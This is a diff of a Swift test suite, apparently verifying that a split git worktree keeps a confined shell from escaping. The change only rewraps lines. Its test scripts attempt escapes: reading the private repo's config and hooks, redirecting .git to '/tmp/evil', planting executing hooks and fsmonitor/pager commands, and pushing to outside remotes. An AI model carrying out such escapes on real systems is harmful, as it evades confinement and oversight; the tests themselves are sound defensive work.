@@ -17,8 +17,10 @@ struct GitAttackTests {
             echo two >> src/a.txt; git commit --quiet --all --message second
             echo three >> src/a.txt; git stash push --quiet; git status --porcelain; git stash pop --quiet
             git commit --quiet --all --message third
-            git switch --quiet --create side HEAD~1; echo side > side.txt; git add side.txt; git commit --quiet --message side
-            git rebase --quiet task; git log --format=%s; git diff --stat HEAD~1 | tail -1; git fsck --no-dangling && git gc --quiet
+            git switch --quiet --create side HEAD~1; echo side > side.txt; git add side.txt; \
+            git commit --quiet --message side
+            git rebase --quiet task; git log --format=%s; git diff --stat HEAD~1 | tail -1; \
+            git fsck --no-dangling && git gc --quiet
             """)
         #expect(seen == "## task\nside\nthird\nsecond\nbegin\n 1 file changed, 1 insertion(+)")
         // The user's side of the same worktree has not moved, and sees the files.
@@ -33,11 +35,13 @@ struct GitAttackTests {
         let stash = try await split.repository.revParse("stash")
         let seen = try await split.shell(
             """
-            git branch --all --format='%(refname:short)'; git stash list; git remote; git log --all --format=%s
+            git branch --all --format='%(refname:short)'; git stash list; git remote; \
+            git log --all --format=%s
             git cat-file -e \(hidden) 2>/dev/null && echo "found the private branch"
             git cat-file -e \(stash) 2>/dev/null && echo "found the stash"
             ls -A \(split.repository.path) 2>/dev/null
-            cat \(split.repository.path)/.git/config \(split.repository.path)/.git/hooks/pre-commit 2>/dev/null
+            cat \(split.repository.path)/.git/config \(split.repository.path)/.git/hooks/pre-commit \
+            2>/dev/null
             git --git-dir=\(split.repository.path)/.git log --format=%s 2>/dev/null
             git cat-file -t \(split.base)
             """)
@@ -54,7 +58,8 @@ struct GitAttackTests {
             """
             (echo "gitdir: /tmp/evil" > .git) 2>/dev/null && echo wrote
             rm -f .git 2>/dev/null && echo removed; mv .git other 2>/dev/null && echo moved
-            echo x > evil; mv -f evil .git 2>/dev/null && echo replaced; ln -f evil .git 2>/dev/null && echo linked
+            echo x > evil; mv -f evil .git 2>/dev/null && echo replaced; \
+            ln -f evil .git 2>/dev/null && echo linked
             umount .git 2>/dev/null && echo unmounted
             mv \(split.scene.worktree) \(split.scene.folder.path)/elsewhere 2>/dev/null && echo moved
             chmod 777 .git 2>/dev/null && echo changed
@@ -73,8 +78,10 @@ struct GitAttackTests {
         let marker = split.scene.folder.path("ran")
         _ = try await split.shell(
             """
-            git config core.fsmonitor 'touch \(marker)'; git config core.hooksPath "$PWD/hooks"; git config core.pager 'touch \(marker)'
-            mkdir hooks; printf '#!/bin/sh\\ntouch \(marker)\\n' > hooks/post-checkout; chmod +x hooks/post-checkout
+            git config core.fsmonitor 'touch \(marker)'; git config core.hooksPath "$PWD/hooks"; \
+            git config core.pager 'touch \(marker)'
+            mkdir hooks; printf '#!/bin/sh\\ntouch \(marker)\\n' > hooks/post-checkout; \
+            chmod +x hooks/post-checkout
             cp hooks/post-checkout $(git rev-parse --git-dir)/hooks/pre-commit 2>/dev/null || true
             echo changed > README
             """)
@@ -95,7 +102,8 @@ struct GitAttackTests {
             git push --quiet https://example.invalid/r.git task 2>/dev/null && echo pushed
             git push --quiet git://192.0.2.1/r.git task 2>/dev/null && echo pushed
             git push --quiet \(split.repository.path) task:main 2>/dev/null && echo pushed
-            git init --quiet --bare /tmp/own.git && git push --quiet /tmp/own.git task && git -C /tmp/own.git log --format=%s task
+            git init --quiet --bare /tmp/own.git && git push --quiet /tmp/own.git task && \
+            git -C /tmp/own.git log --format=%s task
             """)
         #expect(seen == "begin")
         #expect(try await split.repository.revParse("main") == split.base)
